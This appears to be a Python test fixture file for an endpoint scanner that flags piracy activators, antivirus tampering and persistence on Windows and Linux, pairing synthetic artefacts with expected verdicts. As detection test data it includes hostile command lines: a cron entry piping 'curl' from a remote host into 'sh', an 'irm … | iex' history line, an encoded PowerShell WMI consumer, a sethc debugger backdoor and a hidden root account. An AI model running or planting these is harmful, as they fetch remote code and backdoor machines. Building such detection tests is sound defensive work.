"""For every sign of the catalogue a harmless artefact, and the verdict that it must bring alone.

`DISK` are files and registry keys, checked on the tree of a disk; `RUNNING` need a running machine and are
recordings. Verdicts are written by hand from the rule: D1 found; D2, or an active D3, check; other D3 traces;
D4 clean.
"""

from __future__ import annotations

import struct
from typing import Any

from quetsach.endpoint.profile import Profile
from tests.endpoint.world import (
    DEFENDER,
    FIREWALL,
    HISTORY,
    HOSTS,
    IFEO,
    NT,
    PE,
    RULES,
    SERVICES,
    SPP,
    TASKS,
    task,
)

BUYS_NONE = Profile(volume_agreement=False)
OFFICE = r"HKLM\SOFTWARE\Microsoft\Office\ClickToRun\Configuration"
JETBRAINS = r"C:\Users\an\AppData\Roaming\JetBrains\IntelliJIdea2024.1\idea64.exe.vmoptions"
DOWNLOADS = r"C:\Users\an\Downloads"


def _file(path: str, content: str = PE) -> dict[str, Any]:
    return {"files": {path: content}}


def _key(key: str, **values: Any) -> dict[str, Any]:
    return {"registry": {key: values}}


def _hosts(*lines: str) -> dict[str, Any]:
    return _file(HOSTS, "127.0.0.1 localhost\n" + "".join(f"{line}\n" for line in lines))


def shortcut(target: str, arguments: str = "", *, by_variables: bool = False) -> str:
    """A shortcut as [MS-SHLLINK] describes it: path and arguments as texts, or the path in a block behind."""
    flags = 0x80 | (0x20 if arguments else 0) | (0 if by_variables else 8)
    parts = [struct.pack("<I16sI52x", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), flags)]
    for text in ([] if by_variables else [target]) + ([arguments] if arguments else []):
        parts.append(struct.pack("<H", len(text)) + text.encode("utf-16-le"))
    if by_variables:
        wide = target.encode("utf-16-le").ljust(520, b"\0")
        parts.append(struct.pack("<II", 0x314, 0xA0000001) + target.encode().ljust(260, b"\0") + wide)
    return (b"".join(parts) + bytes(4)).decode("utf-8", "surrogateescape")


def _rule(text: str) -> dict[str, Any]:
    return {"registry": {RULES: {"planted": f"v2.30|{text}|"}}}


DISK: dict[str, tuple[dict[str, Any], str]] = {
    "KMS-01": (
        _key(rf"{SPP}\55c92734-d682-4d71-983e-d6ec3f16059f", KeyManagementServiceName="127.0.0.2"),
        "found",
    ),
    "KMS-02": (_key(SPP, KeyManagementServiceName="10.0.0.10"), "check"),
    "KMS-03": (_key(SPP, KeyManagementServiceName="kms8.MSGuides.com"), "found"),
    "KMS-04": (_key(SPP, KeyManagementServiceName="kms.example.org"), "check"),
    "KMS-05": (_key(SPP, KeyManagementServiceName="kms01"), "traces"),
    "KMS-06": (_key(SPP, DisableDnsPublishing=1), "clean"),
    "KMS-07": (_key(SPP, NoGenTicket=1), "check"),
    "REARM-01": (_key(SPP, SkipRearm=1), "check"),
    "LIC-07": (_key(OFFICE, ProductReleaseIds="MondoVolume,VisioPro2021Retail"), "check"),
    "LIC-08": (_file(r"C:\ProgramData\Microsoft\Windows\ClipSVC\GenuineTicket\GenuineTicket.xml"), "clean"),
    "HOOK-01": (_key(rf"{IFEO}\SppExtComObj.exe", VerifierDlls="x.dll"), "found"),
    "HOOK-02": (_file(r"C:\Windows\System32\SppExtComObjHook.dll"), "found"),
    "HOOK-04": (_file(r"C:\Program Files\Microsoft Office\root\vfs\System\sppc.dll"), "found"),
    "HOOK-05": (
        _file(r"C:\Program Files\Common Files\Microsoft Shared\OfficeSoftwareProtectionPlatform\sppcs.dll"),
        "found",
    ),
    "HOOK-06": (
        _key(
            r"HKU\an\Software\Microsoft\Office\16.0\Common\Licensing\Resiliency",
            TimeOfLastHeartbeatFailure="2099-01-01T00:00:00Z",
        ),
        "check",
    ),
    "TASK-01": (
        _file(rf"{TASKS}\AutoPico Daily Restart", task(r"C:\Program Files\KMSpico\AutoPico.exe")),
        "found",
    ),
    "TASK-02": (_file(rf"{TASKS}\AutoKMS", task(r"C:\gone\x.exe")), "check"),
    "TASK-03": (
        _file(rf"{TASKS}\Microsoft\Windows\SoftwareProtectionPlatform\SvcTrigger", task("cmd.exe", "/c x")),
        "check",
    ),
    "SVC-01": (_key(rf"{SERVICES}\Service KMSELDI", ImagePath=r"C:\x\y.exe", Start=2), "found"),
    "SVC-02": (
        _key(rf"{SERVICES}\helper", ImagePath=r'"C:\Program Files\KMSpico\h.exe" -s', Start=2),
        "found",
    ),
    "DIR-01": (_file(r"C:\ProgramData\KMSAuto\note.txt", "x"), "check"),
    "FILE-01": (_file(rf"{DOWNLOADS}\KMSpico 10.2.zip", "PK\x03\x04"), "traces"),
    "UNI-01": (
        _key(r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\{1}", DisplayName="KMSpico 10.2"),
        "check",
    ),
    "EXEC-01": (_file(r"C:\Windows\Prefetch\KMSELDI.EXE-1A2B3C4D.pf", "MAM"), "traces"),
    "PSH-01": (_file(HISTORY, "irm https://get.activated.win | iex\n"), "check"),
    "PSH-02": (_file(HISTORY, "irm https://get.activate.win | iex\n"), "found"),
    "BOOT-01": (_file(r"C:\EFI\WindSLIC\BOOTX64.EFI"), "found"),
    "AV-01": ({"registry": {rf"{DEFENDER}\Exclusions\Paths": {r"C:\Windows\AutoKMS": 0}}}, "check"),
    "AV-02": ({"registry": {rf"{DEFENDER}\Exclusions\Paths": {"C:\\": 0}}}, "check"),
    "AV-03": ({"registry": {rf"{DEFENDER}\Threats\ThreatIDDefaultAction": {"2147685180": "6"}}}, "check"),
    "AV-04": (_key(r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender", DisableAntiSpyware=1), "check"),
    "AV-07": (_file(rf"{DOWNLOADS}\dControl.exe"), "traces"),
    "HST-01": (_hosts("0.0.0.0 activation.sls.microsoft.com"), "check"),
    "HST-02": (_hosts("127.0.0.1 activate.adobe.com", "127.0.0.1 genuine.adobe.com"), "check"),
    "HST-03": (_hosts("127.0.0.1 genuine-software1.autodesk.com"), "check"),
    "HST-04": (_hosts("127.0.0.1 www.registeridm.com"), "check"),
    "HST-05": (_hosts("127.0.0.1 license.sublimehq.com"), "check"),
    "HST-06": (_hosts("0.0.0.0 update.bkav.com.vn"), "found"),
    "FW-01": (_rule(r"Action=Block|Active=TRUE|Dir=Out|App=C:\Program Files\Adobe\Photoshop.exe"), "check"),
    "FW-02": (_rule("Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=1688|Name=x"), "check"),
    "FW-03": (_key(rf"{FIREWALL}\PublicProfile", EnableFirewall=0), "check"),
    "ADO-02": (_file(rf"{DOWNLOADS}\GenP 3.0.exe"), "traces"),
    "ADO-03": (_key(rf"{SERVICES}\AGSService", ImagePath=r"C:\x.exe", Start=4), "clean"),
    "ADS-01": (_file(rf"{DOWNLOADS}\xf-adsk2023_x64.exe"), "check"),
    "IDM-01": (_file(r"C:\Program Files (x86)\Internet Download Manager\IDMan.exe.BAK"), "check"),
    "JBR-01": (_file(JETBRAINS, "-Xmx2g\n-javaagent:/opt/ja-netfilter.jar=jetbrains\n"), "found"),
    "CAD-01": (_key(rf"{SERVICES}\SolidWorks Flexnet Server", ImagePath=r"C:\SSQ\lmgrd.exe"), "check"),
    "DNG-01": (_key(rf"{SERVICES}\mk", ImagePath=r"System32\drivers\multikey.sys", Start=1, Type=1), "check"),
    "DNG-02": (
        _key(r"HKLM\SYSTEM\CurrentControlSet\Control", SystemStartOptions=" TESTSIGNING NOEXECUTE"),
        "check",
    ),
    "RAR-01": (
        _file(
            r"C:\Program Files\WinRAR\rarreg.key", "RAR registration data\nState Grid Corporation Of China\n"
        ),
        "traces",
    ),
    "AVK-01": (_file(rf"{DOWNLOADS}\TNod User & Password Finder.exe"), "check"),
    "GEN-01": (_file(rf"{DOWNLOADS}\Office keygen.exe"), "traces"),
    "GEN-02": (_file(rf"{DOWNLOADS}\abc.exe", PE + "dup2patcher.dll load_patcher"), "check"),
    "GEN-03": (_file(rf"{DOWNLOADS}\phan mem\Crack\setup.dll"), "clean"),
    "TAP-01": (_key(rf"{SERVICES}\tap0901", ImagePath=r"System32\drivers\tap0901.sys"), "clean"),
    "PER-01": (_key(rf"{IFEO}\sethc.exe", Debugger="cmd.exe"), "check"),
    "PER-02": (_key(rf"{NT}\Winlogon", Userinit=r"C:\Windows\system32\userinit.exe,C:\x\a.exe"), "check"),
    "PER-03": (
        _file(
            r"C:\Windows\System32\wbem\Repository\OBJECTS.DATA",
            "\x01\x02CommandLineEventConsumer\x00\x00powershell.exe -enc AAAA\x00Updater\x00",
        ),
        "check",
    ),
    "PER-04": (
        _key(r"HKU\an\Software\Microsoft\Windows\CurrentVersion\Run", a=r"C:\Users\Public\a.exe -q"),
        "check",
    ),
    "PER-05": (_key(rf"{NT}\Windows", AppInit_DLLs=r"C:\x\a.dll"), "check"),
    "PER-06": (
        _key(rf"{NT}\Schedule\TaskCache\Tree\WinUpdate", Id="{9C8F0A6B-1111-2222-3333-444455556666}"),
        "check",
    ),
    "USB-01": (_file(r"E:\TAI LIEU.lnk", shortcut(r"..\Windows\cmd.exe", "/c start an\\x.dat")), "check"),
    "USB-02": (_file(r"E:\autorun.inf", "[autorun]\nopen=an\\x.exe /s\n"), "traces"),
    "OLD-01": (_key(NT, CurrentBuildNumber="7601", ProductName="Windows 7 Professional"), "clean"),
}


def _licence(**values: str) -> dict[str, Any]:
    row = {"Name": "Windows(R), Professional edition", "PartialProductKey": "ABCDE", "LicenseStatus": "1"}
    return {"tables": {"SoftwareLicensingProduct": [row | values]}}


def _event(log: str, provider: str, number: int, data: dict[str, Any]) -> dict[str, Any]:
    system = {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": number,
        "TimeCreated": {"#attributes": {"SystemTime": "2026-11-02T01:02:03.000000Z"}},
    }
    return {"events": {log: [{"System": system, "EventData": data}]}}


_KMS = "Windows(R) Operating System, VOLUME_KMSCLIENT channel"
_DEFENDER = "Microsoft-Windows-Windows Defender"
_DEFENDER_LOG = f"{_DEFENDER}%4Operational.evtx"


def _unsigned(path: str) -> dict[str, Any]:
    return _file(path) | {"signatures": {path: ["unsigned", ""]}}


def _listener(name: str, signature: str) -> dict[str, Any]:
    path = rf"C:\Windows\System32\{name}"
    return {
        "processes": [{"pid": 77, "name": name, "program": path}],
        "sockets": [{"address": "", "port": 0, "local_port": 1688, "state": "LISTEN", "pid": 77}],
        "signatures": {path: [signature, ""]},
    }


RUNNING: dict[str, tuple[dict[str, Any], str]] = {
    "KMS-08": (_listener("vl.exe", "unsigned"), "found"),
    "KMS-09": (_listener("sppsvc.exe", "valid"), "traces"),
    "KMS-10": (
        {
            "processes": [{"pid": 78, "name": "sppsvc.exe", "program": r"C:\Windows\System32\sppsvc.exe"}],
            "sockets": [
                {"address": "8.8.4.4", "port": 1688, "local_port": 5, "state": "SYN_SENT", "pid": 78}
            ],
        },
        "check",
    ),
    "KMS-11": (
        _event(
            "Application.evtx", "Microsoft-Windows-Security-SPP", 12288,
            {"Data": {"#text": ["0x00000000, 0x00000000, 127.0.0.1:1688, 0a1b2c3d-0000, 2026/11/02"]}},
        ),
        "found",
    ),
    "LIC-01": (_licence(Description=_KMS, GracePeriodRemaining="5529600"), "found"),
    "LIC-02": (_licence(Description=_KMS, GracePeriodRemaining="0"), "check"),
    "LIC-03": (_licence(Description=_KMS, GracePeriodRemaining="200000"), "traces"),
    "LIC-04": (
        _licence(Description="Windows(R) Operating System, OEM_DM channel", GracePeriodRemaining="0")
        | {
            "tables": {
                "SoftwareLicensingService": [{"OA3xOriginalProductKeyDescription": "[4.0] Core OEM:DM"}],
                "SoftwareLicensingProduct": [
                    {
                        "Name": "Windows(R), Professional edition", "PartialProductKey": "ABCDE",
                        "LicenseStatus": "1", "GracePeriodRemaining": "0",
                        "Description": "Windows(R) Operating System, OEM_DM channel",
                    }
                ],
            }
        },
        "traces",
    ),
    "LIC-05": (
        _licence(
            Description="Windows(R) Operating System, RETAIL channel", GracePeriodRemaining="0",
            PartialProductKey="3V66T",
        ),
        "clean",
    ),
    "LIC-06": (
        _licence(
            Description="Windows(R) Operating System, RETAIL channel", GracePeriodRemaining="0",
            LicenseStatus="5",
        ),
        "clean",
    ),
    "WGA-01": (_unsigned(r"C:\Windows\System32\slwga.dll"), "check"),
    "HOOK-03": (_unsigned(r"C:\Windows\System32\sppobjs.dll"), "found"),
    "PROC-01": (
        {"processes": [{"pid": 9, "name": "KMSELDI.exe", "program": r"C:\x\KMSELDI.exe"}]},
        "found",
    ),
    "DNS-01": ({"resolver_cache": ["kms8.msguides.com"]}, "traces"),
    "AV-05": (
        _event(
            _DEFENDER_LOG, _DEFENDER, 1116,
            {"Threat Name": "HackTool:Win32/AutoKMS", "Path": r"file:_C:\Users\an\Downloads\a.exe"},
        ),
        "check",
    ),
    "AV-06": (
        _event(
            _DEFENDER_LOG, _DEFENDER, 5007,
            {"New Value": rf"{DEFENDER}\Exclusions\Paths\C:\ProgramData\KMSAutoS = 0x0"},
        ),
        "check",
    ),
    "AV-08": (
        _event(
            _DEFENDER_LOG, _DEFENDER, 1116,
            {"Threat Name": "Trojan:Win32/Emotet.A", "Path": r"file:_C:\Users\an\a.exe", "Action ID": "9"},
        ),
        "check",
    ),
    "AV-09": (_event(_DEFENDER_LOG, _DEFENDER, 5001, {"Product Name": "x"}), "traces"),
    "AV-10": (
        _event(_DEFENDER_LOG, _DEFENDER, 5007, {"New Value": rf"{DEFENDER}\Exclusions\Paths\C:\Users = 0x0"}),
        "traces",
    ),
    "EXEC-02": (
        _event(
            "System.evtx", "Service Control Manager", 7045,
            {"ServiceName": "Service KMSELDI", "ImagePath": r"C:\x\y.exe"},
        ),
        "check",
    ),
    "LOG-01": (
        _event("System.evtx", "Microsoft-Windows-Eventlog", 104, {"LogFileCleared": {"Channel": "System"}}),
        "traces",
    ),
    "ADO-01": (_unsigned(r"C:\Program Files\Adobe\Adobe Photoshop\amtlib.dll"), "check"),
    "MAL-01": (_file(rf"{DOWNLOADS}\hoa don.exe", PE + "planted-campaign-string"), "found"),
}  # fmt: skip

LINUX: dict[str, tuple[dict[str, Any], str]] = {
    "LNX-01": (_file("/etc/ld.so.preload", "/usr/lib/libwatch.so\n"), "check"),
    "LNX-02": (
        {"processes": [{"pid": 9, "name": "x", "program": "/tmp/.x/x", "is_deleted": True}]},
        "check",
    ),
    "LNX-03": (_file("/etc/cron.d/apt", "* * * * * root curl -s http://192.0.2.1/a | sh\n"), "check"),
    "LNX-04": (_file("/etc/pam.d/sshd", "auth optional pam_exec.so /usr/bin/x\n"), "check"),
    "LNX-06": (
        _file("/etc/passwd", "root:x:0:0::/root:/bin/sh\nhelp:x:0:0::/home/help:/bin/sh\n"),
        "check",
    ),
    "LNX-07": (
        _file(
            "/root/.ssh/authorized_keys", 'command="/usr/bin/borg serve" ssh-ed25519 AAAA an@example.org\n'
        ),
        "clean",
    ),
    "LNX-05": (_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA an@example.org\n"), "clean"),
}
PROFILES = {"LIC-03": BUYS_NONE}
RULE = 'rule planted { strings: $a = "planted-campaign-string" condition: $a }'
